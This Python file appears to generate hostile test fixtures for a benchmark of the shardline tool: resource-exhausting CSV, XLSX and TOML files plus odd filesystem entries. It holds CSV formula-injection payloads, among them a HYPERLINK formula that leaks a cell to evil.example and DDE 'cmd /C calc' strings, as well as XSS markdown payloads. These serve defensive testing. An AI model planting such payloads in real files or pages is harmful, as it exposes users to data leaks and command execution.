"""The hostile files of the catalogue (bench_hostile.py): bombs, broken and odd files, written
under WORK/in (inputs, hashed before and after every case) and WORK (everything else)."""

from __future__ import annotations

import csv
import os
import re
import zipfile
from collections.abc import Sequence
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CHIP = ROOT / "src" / "shardline" / "hardware" / "catalog" / "h100-sxm.toml"

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
MARKDOWN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![y](javascript:alert(2))",
    "a|b",
)
_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>{sst}</Types>'
)
_SST_CT = (
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def _csv(path: Path, header: list[str], rows: Sequence[Sequence[object]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\r\n")  # quotes a cell with a CR or LF
        writer.writerow(header)
        writer.writerows(rows)


def _big_csv(path: Path, rows: int) -> None:
    ks, ns = (1024, 4096, 8192), (1024, 4096, 11008)
    with path.open("w", encoding="utf-8") as fh:
        fh.write("name,m,k,n,count\n")
        for i in range(rows):
            fh.write(f"op{i},{1 + (i * 7919) % 16384},{ks[i % 3]},{ns[(i // 3) % 3]},1\n")


def _xlsx(path: Path, sheet_xml_parts: object, shared: object = None) -> None:
    """A minimal workbook; the sheet XML (and sharedStrings.xml) streamed from iterables."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CT.format(sst=_SST_CT if shared else ""))
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}"><Relationship '
            f'Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
            '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        rels = f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
        if shared:
            rels += (
                f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
            )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}">{rels}'
            "</Relationships>",
        )
        for name, parts in (
            ("xl/worksheets/sheet1.xml", sheet_xml_parts),
            ("xl/sharedStrings.xml", shared),
        ):
            if parts is None:
                continue
            with z.open(name, "w", force_zip64=True) as fh:
                for piece in parts:  # type: ignore[attr-defined]
                    fh.write(piece.encode())


def _sheet(rows_xml: object) -> object:
    yield f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}"><sheetData>'
    yield '<row r="1"><c r="A1" t="inlineStr"><is><t>m</t></is></c><c r="B1" t="inlineStr">'
    yield '<is><t>k</t></is></c><c r="C1" t="inlineStr"><is><t>n</t></is></c></row>'
    yield from rows_xml  # type: ignore[misc]
    yield "</sheetData></worksheet>"


def _xfd_rows(n: int) -> object:
    for r in range(2, n + 2):
        yield f'<row r="{r}"><c r="A{r}"><v>1</v></c><c r="XFD{r}"><v>1</v></c></row>'


def _huge_string(total: int) -> object:
    yield f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}" count="1" uniqueCount="1">'
    yield "<si><t>"
    chunk = "A" * 1_000_000
    for _ in range(total // len(chunk)):
        yield chunk
    yield "</t></si></sst>"


def _chip(path: Path, edit: list[tuple[str, str]]) -> None:
    text = CHIP.read_text(encoding="utf-8")
    for pattern, repl in edit:
        text = re.sub(pattern, repl, text, count=1, flags=re.M)
    path.write_text(text, encoding="utf-8")


def _hostile_chips(d: Path) -> None:
    _chip(
        d / "chip_tiny.toml",
        [(r'^name = ".*"', 'name = "tiny"'), (r"value = 3\.35e12", "value = 1e-300")],
    )
    _chip(d / "chip_schema99.toml", [(r"^schema = 1", "schema = 99")])
    _chip(d / "chip_achievable.toml", [(r"value = 794\.5e12", "value = 5e15")])
    (d / "chip_nested.toml").write_text("x = " + "[" * 2000 + "]" * 2000 + "\n")


def _workloads(d: Path) -> None:
    stack = (ROOT / "examples" / "seed003_stack.toml").read_text(encoding="utf-8")
    (d / "stack.toml").write_text(stack, encoding="utf-8")
    layer = '[[layer]]\nname = "l{i}"\neinsum = "x[M,K] * w[K,N] -> y[M,N]"\nweights = ["w"]\n'
    head = (
        'name = "w"\nphase = "forward"\nbatch_dim = "M"\ndtype = "bf16"\n'
        "[dims]\nM = 4096\nK = 4096\nN = 4096\n"
    )
    (d / "count1e9.toml").write_text(head + layer.format(i=0) + "count = 1000000000\n")
    (d / "layers10k.toml").write_text(head + "".join(layer.format(i=i) for i in range(10_000)))
    (d / "nested.toml").write_text("x = " + "[" * 2000 + "]" * 2000 + "\n")
    (d / "nested_tables.toml").write_text("x = " + "{a = " * 2000 + "1" + "}" * 2000 + "\n")
    ffn = (
        'name = "f"\nphase = "forward"\n[ffn]\n'
        "d_model = 4096\nd_ff = 16384\nseq_len = 128\nbatch = 1\nlayers = 1\n"
    )
    (d / "gated_string.toml").write_text(ffn + 'gated = "false"\n')
    (d / "bad_utf8.toml").write_bytes(b'name = "\xff\xfe"\n')


def make_fixtures(work: Path, big_rows: int) -> None:
    d = work / "in"
    d.mkdir(parents=True)
    shapes = (ROOT / "examples" / "seed003_shapes.csv").read_text(encoding="utf-8")
    (d / "small.csv").write_text(shapes, encoding="utf-8")
    (d / "existing.csv").write_text("an output of an earlier run\n", encoding="utf-8")
    _big_csv(d / "big.csv", big_rows)
    _big_csv(d / "medium.csv", 300_000)
    _csv(
        d / "formula.csv",
        ["name", "m", "k", "n", *FORMULAS[:2], "-offset"],
        [[f, 64, 64, 64, f, -5, "-7"] for f in FORMULAS],
    )
    _csv(
        d / "markdown.csv",
        ["name", "m", "k", "n", "<b>note</b>"],
        [[t, 64, 64, 64, t] for t in MARKDOWN],
    )
    (d / "nul.csv").write_bytes(shapes.encode() + b"evil\x00name,1,2,3,1\n")
    (d / "nul_late.csv").write_bytes(shapes.encode() * 200 + b"x\x00,1,2,3,1\n")
    _csv(
        d / "wide.csv",
        ["m", "k", "n", *(f"c{i}" for i in range(16_378))],
        [[64, 64, 64] + [1] * 16_378],
    )
    _csv(d / "too_wide.csv", ["m", "k", "n", *(f"c{i}" for i in range(16_400))], [[64, 64, 64]])
    _csv(
        d / "numbers.csv",
        ["m", "k", "n"],
        [["nan", 1, 1], ["inf", 1, 1], [-1, 1, 1], ["1e400", 1, 1], ["9" * 5000, 1, 1]],
    )
    _xlsx(d / "xfd.xlsx", _sheet(_xfd_rows(20_000)))
    _xlsx(d / "far_row.xlsx", _sheet(['<row r="900000000"><c r="A900000000"><v>1</v></c></row>']))
    _xlsx(
        d / "sst.xlsx",
        _sheet(['<row r="2"><c r="A2" t="s"><v>0</v></c></row>']),
        _huge_string(300_000_000),
    )
    (d / "notzip.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    _hostile_chips(d)
    _workloads(d)
    (d / "unreadable.csv").write_text(shapes, encoding="utf-8")
    os.chmod(d / "unreadable.csv", 0)
    (work / "ro").mkdir()
    os.chmod(work / "ro", 0o555)
    os.mkfifo(work / "fifo.csv")
    os.mkfifo(work / "fifo.toml")
    (work / "adir.csv").mkdir()
    os.symlink(d / "small.csv", work / "link_to_small.csv")
    os.link(d / "small.csv", work / "hardlink_small.csv")
    os.symlink(work / "nowhere.csv", work / "dangling.csv")
